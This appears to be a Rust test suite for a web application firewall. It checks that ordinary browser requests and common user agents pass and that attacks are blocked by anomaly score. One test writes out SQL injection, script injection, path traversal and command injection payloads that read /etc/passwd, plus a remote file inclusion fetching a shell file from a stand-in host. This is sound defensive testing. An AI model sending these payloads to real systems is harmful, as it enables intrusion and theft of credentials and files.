//! Decisions in prevention mode at paranoia level 1: what ordinary clients send passes, attacks do not.

use std::sync::Arc;

use waf::program::{Library, Options, Program};
use waf::verdict::{Decision, Verdict};

use crate::corpus::{FOUR, Generation, THREE, folder, lines, program};
use crate::regression::send;

fn programs() -> Vec<(Generation, Arc<Program>)> {
    let mut library = Library::new();
    let compile = |generation: Generation| {
        let program = program(&folder(generation)?, "", &Options::default(), &mut library);
        Some((generation, program.unwrap_or_else(|faults| panic!("{}", lines(&faults)))))
    };
    [THREE, FOUR].into_iter().filter_map(compile).collect()
}

/// A request of a browser with its usual fields.
fn browser(line: &str, fields: &str, body: &str) -> Vec<u8> {
    let length = if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
    format!(
        "{line} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) \
         Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n\
         Accept-Language: de,en-US;q=0.7,en;q=0.3\r\nAccept-Encoding: gzip, deflate, br\r\n\
         Referer: https://www.example.com/shop?page=2\r\nConnection: keep-alive\r\n{fields}{length}\r\n{body}"
    )
    .into_bytes()
}

fn run(program: &Arc<Program>, request: &[u8]) -> Verdict {
    send(program, request).expect("a request line")
}

#[test]
fn what_ordinary_clients_send_passes() {
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let json = "Content-Type: application/json\r\n";
    let multipart = "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryA1b2\r\n";
    let upload = "------WebKitFormBoundaryA1b2\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nHolidays\r\n\
                  ------WebKitFormBoundaryA1b2\r\nContent-Disposition: form-data; name=\"photo\"; \
                  filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{1}\u{2}jpeg\r\n\
                  ------WebKitFormBoundaryA1b2--\r\n";
    let requests = [
        browser("GET /", "", ""),
        browser("GET /shop/shoes?size=42&colour=dark%20blue&sort=price", "", ""),
        browser("GET /a/b/style.min.css?v=1.2.3", "Cookie: session=0123456789abcdef; theme=dark\r\n", ""),
        browser("POST /login", form, "user=jane.doe%40example.com&password=correct+horse+battery+staple"),
        browser("POST /comment", form, "text=I+really+like+this%2C+it+works+well.+See+you+soon%21"),
        browser("POST /api/orders", json, "{\"items\":[{\"sku\":\"A-17\",\"count\":2}],\"note\":\"ring twice\"}"),
        browser("POST /upload", multipart, upload),
    ];
    for (generation, program) in programs() {
        for request in &requests {
            let verdict = run(&program, request);
            let found: Vec<_> =
                verdict.matches.iter().map(|m| (m.rule.id, m.message.clone(), m.data.clone())).collect();
            let text = String::from_utf8_lossy(request);
            assert!(!verdict.is_stopped(), "{}: {text}\n{found:?}", generation.folder);
        }
    }
}

#[test]
fn common_user_agents_raise_no_alarm() {
    for (generation, program) in programs() {
        let path = folder(generation).expect("asked for before").join("popularUAs.data");
        let agents = std::fs::read_to_string(path).expect("a list of user agents");
        let mut count = 0;
        for agent in agents.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')) {
            let request =
                format!("GET / HTTP/1.1\r\nHost: www.example.com\r\nAccept: */*\r\nUser-Agent: {agent}\r\n\r\n");
            let verdict = run(&program, request.as_bytes());
            let found: Vec<u32> = verdict.matches.iter().map(|found| found.rule.id).collect();
            assert!(found.is_empty(), "{}: {agent}: {found:?}", generation.folder);
            count += 1;
        }
        eprintln!("{}: {count} user agents raise no alarm", generation.folder);
        assert!(count > 100);
    }
}

#[test]
fn attacks_are_refused_by_their_score() {
    let json = "Content-Type: application/json\r\n";
    let requests = [
        ("SQL", browser("GET /?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--", "", "")),
        ("script", browser("GET /?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "")),
        ("traversal", browser("GET /download?file=../../../../etc/passwd", "", "")),
        ("command", browser("GET /ping?host=127.0.0.1;cat%20/etc/passwd", "", "")),
        ("script in JSON", browser("POST /api", json, "{\"a\":{\"b\":[\"<script>alert(1)</script>\"]}}")),
        ("remote file", browser("GET /?page=http://192.0.2.9/shell.txt%3f", "", "")),
    ];
    for (generation, program) in programs() {
        for (name, request) in &requests {
            let verdict = run(&program, request);
            assert!(verdict.is_stopped(), "{}: {name}", generation.folder);
            let intervention = verdict.intervention.as_ref().expect("just asked for");
            assert_eq!((intervention.rule, &intervention.decision), (949_110, &Decision::Deny { status: 403 }));
            let sums = verdict
                .scores
                .iter()
                .filter(|step| step.score.ends_with("inbound_anomaly_score") || step.score == "anomaly_score");
            assert!(sums.map(|step| step.total).max() >= Some(5), "{name}: {:?}", verdict.scores);
        }
    }
}
